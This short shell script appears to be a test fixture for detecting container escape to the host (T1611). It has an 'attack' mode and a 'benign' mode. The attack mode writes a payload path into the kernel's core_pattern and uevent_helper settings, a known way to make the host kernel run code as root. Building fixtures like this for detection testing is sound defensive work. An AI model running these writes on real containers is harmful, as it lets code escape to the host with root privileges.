#!/bin/sh
# T1611: point core_pattern or uevent_helper at a payload so the host kernel runs it as root.
# Runs in a sandbox whose /proc/sys/kernel and /sys/kernel are tmpfs: the path is the real one,
# the host's settings are never touched. benign: read the knobs, write sysctls that belong to the
# container's own network and IPC namespaces (what a pod's securityContext.sysctls may set).
# usage: host-kernel-knob-write.sh attack|benign
case "$1" in
  attack)
    echo '|/payload %p' > /proc/sys/kernel/core_pattern
    echo /payload > /sys/kernel/uevent_helper
    exit 0 ;;
  benign)
    cat /proc/sys/kernel/core_pattern /sys/kernel/uevent_helper >/dev/null
    mkdir -p /proc/sys/net/ipv4 && echo 1 > /proc/sys/net/ipv4/ip_forward
    echo 65536 > /proc/sys/kernel/shmmax
    exit 0 ;;
esac
exit 2
